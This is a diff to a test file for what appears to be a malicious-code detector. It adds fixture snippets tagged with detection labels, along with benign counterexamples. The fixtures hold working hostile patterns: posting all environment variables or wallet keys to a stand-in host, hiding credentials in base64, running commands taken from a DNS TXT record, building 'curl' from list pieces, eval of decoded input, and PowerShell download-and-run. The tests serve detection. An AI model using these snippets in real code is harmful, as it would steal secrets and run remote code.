@@ -75,6 +75,54 @@ const shapes: readonly (readonly [string, Language, string, readonly string[]])[
     ['environment-sweep', 'host-literal', 'network'],
   ],
   [
+    'the environment is listed and posted',
+    'python',
+    'data = {"env": dict(os.environ)}\nrequests.post("https://c.example/", json=data)',
+    ['environment-sweep', 'host-literal', 'network', 'secrets-sent'],
+  ],
+  [
+    'private keys are looked for by their patterns and sent',
+    'rust',
+    'let a = Regex::new("0x[0-9a-fA-F]{64}"); let b = Regex::new("[1-9A-HJ-NP-Za-km-z]{32,44}"); reqwest::blocking::Client::new().post(E)',
+    ['clipboard-or-wallet', 'network', 'secrets-sent'],
+  ],
+  [
+    'the files of the running program are read and sent',
+    'python',
+    'for f in inspect.stack():\n    seen[f.filename] = open(f.filename).read()\nurllib.request.urlopen("https://c.example/", seen)',
+    ['host-literal', 'network', 'secrets-sent'],
+  ],
+  [
+    'a password is disguised before it is sent',
+    'python',
+    'body = base64.b64encode(json.dumps({"ak": ak, "sk": sk}).encode())\nurlopen("https://time.example/now?t=" + body)',
+    ['host-literal', 'network', 'secrets-sent'],
+  ],
+  [
+    'a command comes in a TXT record',
+    'go',
+    'txt, _ := net.LookupTXT("c.example.net")\nfor _, l := range txt { exec.Command(l).Run() }',
+    ['download-and-run', 'process'],
+  ],
+  [
+    'a command is put together from the pieces of a list',
+    'go',
+    'var v = []string{"s", "h", " ", "-", "c", "u", "r", "l"}\nvar c = exec.Command("/bin/sh", "-c", v[4]+v[5]+v[6]+v[7]+v[2]+"")\nvar d = v[4]+v[5]+v[6]+v[7]+v[2]+v[3]+v[0]+v[2]',
+    ['encoded-payload', 'process'],
+  ],
+  [
+    'a decoded variable is evaluated lines later',
+    'ruby',
+    "x = Base64.urlsafe_decode64(e['k'])\nlog(1)\neval(x)",
+    ['dynamic-evaluation', 'encoded-payload'],
+  ],
+  [
+    'a script of PowerShell fetches a program and starts it',
+    'powershell',
+    "(New-Object Net.WebClient).DownloadFile('https://c.example/u.exe', $t)\nStart-Process -FilePath $t",
+    ['download-and-run', 'executable-written', 'host-literal', 'network', 'process'],
+  ],
+  [
     'a name look-up carries data',
     'javascript',
     "require('dns').lookup(Buffer.from(os.hostname()).toString('hex') + '.d.example.net', () => {})",
@@ -243,6 +291,24 @@ describe('lookAt finds', () => {
 
 /** Ordinary code that has been taken for a payload before. */
 const ordinary: readonly (readonly [string, Language, string, readonly string[]])[] = [
+  [
+    'settings of one prefix are read beside a client',
+    'python',
+    'for k, v in os.environ.items():\n    if k.startswith("MYAPP_"):\n        cfg[k] = v\nrequests.get(cfg["MYAPP_URL"])',
+    ['network'],
+  ],
+  [
+    'a password signs in',
+    'python',
+    'auth = base64.b64encode(f"{user}:{password}".encode())\nrequests.get(url, headers={"Authorization": b"Basic " + auth})',
+    ['network'],
+  ],
+  [
+    'a table is used by number here and there',
+    'go',
+    'var v = []string{"a", "b", "c", "d", "e", "f", "g"}\nvar x = v[1] + v[2] + ","',
+    [],
+  ],
   [
     'the global object by Function',
     'javascript',
